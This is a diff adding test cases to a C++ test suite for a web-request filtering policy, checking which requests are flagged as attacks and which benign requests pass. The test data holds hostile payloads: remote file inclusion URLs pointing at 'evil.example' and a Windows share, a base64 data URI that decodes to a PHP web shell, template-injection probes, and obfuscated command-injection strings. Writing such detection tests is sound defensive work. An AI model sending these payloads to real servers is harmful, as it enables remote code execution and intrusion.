@@ -291,6 +291,16 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
           "shell_evasion");
     CHECK(set_hit("GET /ping?host=x%3Bi%27f%27c%27onfig HTTP/1.1\r\n") == "shell_evasion");
     CHECK(set_hit("POST /ping HTTP/1.1\r\n\r\nhost=x%26%26who%27%27ami") == "shell_evasion");
+    // No scheme: a protocol-relative URL, and a Windows share (its backslashes read as slashes).
+    CHECK(set_hit("GET /index.php?page=//evil.example/shell HTTP/1.1\r\n") == "rfi");
+    CHECK(set_hit("GET /index.php?file=%5C%5C203.0.113.9%5Cshare%5Cx.php HTTP/1.1\r\n") == "rfi");
+    CHECK(
+        set_hit("POST /api HTTP/1.1\r\n\r\n{\"include\": \"\\\\\\\\203.0.113.9\\\\x\\\\a.php\"}") ==
+        "rfi");
+    CHECK(set_hit("GET /index.php?page=data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= "
+                  "HTTP/1.1\r\n") == "php");
+    CHECK(set_hit("POST /render HTTP/1.1\r\n\r\n{\"name\": \"${{<%[%'\\\"}}%\\\\.\"}") == "java");
+    CHECK(set_hit("GET /hello?name=%7B%7B%3C%25%5B%25 HTTP/1.1\r\n") == "java");
     // A body behind 600 bytes of browser headers is scanned too.
     std::string post =
         "POST /comment HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + std::string(500, 'M') +
@@ -312,7 +322,16 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
           "POST /contact HTTP/1.1\r\n\r\nmsg=In+black%2Fwhite%3F%3F+Sizes+S%2FM%3F+or+M%2FL%3F",
           "POST /contact "
           "HTTP/1.1\r\n\r\nmsg=rock%27n%27roll%2C+%27a%27+or+%27b%27%2C+said+%22%22hi%22%22",
-          "POST /contact HTTP/1.1\r\n\r\nmsg=I%27d+like+to+select+one+from+your+union+shop"})
+          "POST /contact HTTP/1.1\r\n\r\nmsg=I%27d+like+to+select+one+from+your+union+shop",
+          // Comments in code, a path value, templates of one language, a GitHub Actions
+          // expression, base64 that is not a script, a protocol-relative URL in a text field.
+          "POST /api/snippets HTTP/1.1\r\n\r\n{\"content\": \"//TODO: fix.this/later\", "
+          "\"path\": \"/srv/app/main.py\"}",
+          "POST /api/templates HTTP/1.1\r\n\r\n{\"body\": \"{{#each items}}{{name}}{{/each}} "
+          "{{{raw}}} <%= user.name %>\", \"ci\": \"${{ secrets.TOKEN }}\"}",
+          "POST /api/avatar HTTP/1.1\r\n\r\n{\"img\": "
+          "\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\"}",
+          "POST /contact HTTP/1.1\r\n\r\nmsg=see+%2F%2Fcdn.example.com%2Fa.js+please"})
         CHECK(set_hit(ok).empty());
     CHECK(p.default_limits.requests == Rate{60, 60'000'000'000ull, 20});
     CHECK(p.suspicious_limits.requests == Rate{10, 60'000'000'000ull, 5});
